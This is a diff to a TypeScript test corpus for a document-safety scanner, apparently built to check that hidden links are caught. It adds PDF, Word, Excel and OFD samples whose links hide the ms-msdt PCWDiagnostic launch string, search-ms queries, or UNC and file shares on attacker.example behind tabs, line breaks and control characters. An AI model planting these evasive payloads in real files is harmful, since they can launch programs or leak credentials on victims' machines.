@@ -590,6 +590,33 @@ const linkPdfs: CorpusItem[] = [
       { num: 6, body: `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI ${UNC_FILE} >> >>` },
     ]),
   ),
+  // Read as a URL parser reads it: tabs and line breaks inside a scheme are dropped, and so are
+  // controls and spaces before a share (round 9).
+  linkItem('pdf-uri-program-scheme-split-by-tab', () =>
+    buildPdf(linkAnnotations('<< /S /URI /URI (ms-ms\\tdt:/id PCWDiagnostic /skip force) >>')),
+  ),
+  linkItem('pdf-uri-program-scheme-split-by-line-break', () =>
+    buildPdf(linkAnnotations('<< /S /URI /URI (search-\\r\\nms:query=x&crumb=location:\\\\\\\\attacker.example) >>')),
+  ),
+  linkItem('pdf-uri-control-before-share', () =>
+    buildPdf(
+      linkAnnotations(`<< /S /URI /URI <${Buffer.from('\x1f\\\\attacker.example\\share\\x.pdf').toString('hex')}> >>`),
+    ),
+  ),
+  linkItem('pdf-uri-no-break-space-before-share', () =>
+    buildPdf(
+      linkAnnotations(
+        `<< /S /URI /URI <${Buffer.from('\xa0\\\\attacker.example\\share\\x.pdf', 'latin1').toString('hex')}> >>`,
+      ),
+    ),
+  ),
+  // A thousand tabs inside the scheme: more than the head a reader keeps of each string.
+  linkItem('pdf-uri-program-scheme-padded-with-tabs', () =>
+    buildPdf(linkAnnotations(`<< /S /URI /URI (ms-ms${'\t'.repeat(1000)}dt:/id PCWDiagnostic) >>`)),
+  ),
+  linkItem('pdf-gotor-control-before-share', () =>
+    buildPdf(linkAnnotations(`<< /S /GoToR /F (\\037${UNC_FILE.slice(1)} /D [0 /Fit] >>`)),
+  ),
 ];
 
 /** A file specification by URL (`/FS /URL`), as PDF text. */
@@ -1118,6 +1145,7 @@ const officeItems: CorpusItem[] = [
   ...queryOfficeItems(),
   ...alternateContentOfficeItems(),
   ...linkedPictureOfficeItems(),
+  ...followedTargetOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -2353,6 +2381,43 @@ const ofdItems: CorpusItem[] = [
       ),
     expect: 'OFD_ACTION',
   },
+  // Read as a URL parser reads it: a tab or line break inside a scheme is dropped, and so is a
+  // control before a share (round 9).
+  {
+    id: 'ofd-click-link-program-scheme-split-by-tab',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdAction('CLICK', '<ofd:URI URI="ms-ms&#9;dt:/id PCWDiagnostic /skip force"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-click-link-control-before-share',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdAnnotationAction('CLICK', `<ofd:URI URI="&#x1f;${UNC_SHARE}\\setup.exe"/>`),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-click-link-base-scheme-split-by-line-break',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdAction('CLICK', '<ofd:URI URI="setup.exe" Base="fi&#10;le://attacker.example/share/"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-media-file-scheme-split-by-tab',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdMedia('ht&#9;tp://attacker.example/track.png'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-font-file-control-before-share',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdFontFile(`&#x1;${UNC_SHARE}\\simsun.ttc`),
+    expect: 'OFD_ACTION',
+  },
 ];
 
 export const ACTIVE_CORPUS: readonly CorpusItem[] = [...pdfItems, ...unreadablePdfs, ...officeItems, ...ofdItems];
@@ -2745,6 +2810,25 @@ export const ACTIVE_GENUINE: readonly {
   },
   { id: 'ofd-cover-in-package', declared: 'ofd', bytes: () => ofdCover('Doc_0/Res/cover.png') },
   { id: 'ofd-color-profile-in-package', declared: 'ofd', bytes: () => ofdColorProfile('/Doc_0/Res/sRGB.icc') },
+  // A tab inside a web address, or a line break after it, leaves a web address (round 9).
+  {
+    id: 'ofd-click-link-web-with-tab-inside',
+    declared: 'ofd',
+    bytes: () => ofdAction('CLICK', '<ofd:URI URI="https://exa&#9;mple.cn/x"/>'),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'pdf-link-uri-trailing-line-break',
+    declared: 'pdf',
+    bytes: async () => buildPdf(linkAnnotations('<< /S /URI /URI (https://www.miit.gov.cn/\\n) >>')),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'pdf-link-uri-web-with-tab-inside',
+    declared: 'pdf',
+    bytes: async () => buildPdf(linkAnnotations('<< /S /URI /URI (https://exa\\tmple.cn/x) >>')),
+    warning: 'EXTERNAL_LINK',
+  },
 ];
 
 /**
@@ -3019,6 +3103,36 @@ function linkedPictureOfficeItems(): CorpusItem[] {
       'xlsx-hyperlink-program-scheme-split-by-line-break',
       EXTERNAL,
       () => sheetWithHyperlink('search-&#xD;ms:query=x&amp;crumb=location:%5C%5Cattacker.example'),
+      'OOXML_EXTERNAL',
+    ),
+  ];
+}
+
+/**
+ * Office link targets read as a URL parser reads them wherever they are written (round 9): a tab
+ * inside a HYPERLINK field's or formula's target, or inside the written lead of one whose target
+ * is computed, no longer hides a program's scheme.
+ */
+function followedTargetOfficeItems(): CorpusItem[] {
+  const EXTERNAL = 'OOXML external';
+  return [
+    item(
+      'docx-hyperlink-field-program-scheme-split-by-tab',
+      EXTERNAL,
+      () => documentWith(complexField(' HYPERLINK "ms-ms&#9;dt:/id PCWDiagnostic /skip force" ')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-formula-program-scheme-split-by-tab',
+      EXTERNAL,
+      () => sheetWithFormula('HYPERLINK(&quot;ms-ms&#9;dt:/id PCWDiagnostic&quot;,&quot;附件&quot;)'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-formula-lead-ends-in-tab',
+      EXTERNAL,
+      // `ms-ms` and a tab, then what A2 holds (`dt:…`): the tab is dropped as the link is followed.
+      () => sheetWithFormula('HYPERLINK(&quot;ms-ms&#9;&quot;&amp;A2,&quot;附件&quot;)'),
       'OOXML_EXTERNAL',
     ),
   ];
